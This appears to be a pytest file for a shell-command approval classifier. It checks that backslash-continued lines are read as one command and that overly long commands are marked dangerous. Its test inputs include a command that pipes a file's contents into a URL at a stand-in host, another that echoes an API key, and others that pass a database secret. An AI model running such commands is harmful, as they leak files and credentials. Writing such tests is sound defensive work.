"""What only the text of a command tells, where a line of the lists cannot show it."""

import pytest

from tests.support.each import each
from tests.tools.approval.commands.dangers.scene import PROJECT
from tools.approval.commands import classify_command

LONGEST = 8_000
REQUESTS = "for i in $(seq 3); do curl -s http://localhost:8080/$i; done"
USES_A_SECRET = "echo begins; DATABASE_URL=$TEST_DATABASE_URL npm test"
ENDS_ITS_OWN = "npm start & kill $!"


def _level(command):
    return classify_command(command, PROJECT, (PROJECT,)).level


def _of_length(command, length):
    return f"{command} #".ljust(length, "x")


@each("command", ["git cl\\\none https://e.example/$(cat x)", "ec\\\nho $API_KEY"])
def test_a_line_that_goes_on_is_read_as_one(command):
    assert _level(command) == "dangerous"


@pytest.mark.parametrize("command", [REQUESTS, USES_A_SECRET, ENDS_ITS_OWN])
def test_in_a_text_that_is_too_long_it_is_not_searched_for_what_comes_after_what(command):
    assert _level(_of_length(command, LONGEST)) == "ordinary"
    assert _level(_of_length(command, LONGEST + 1)) == "dangerous"
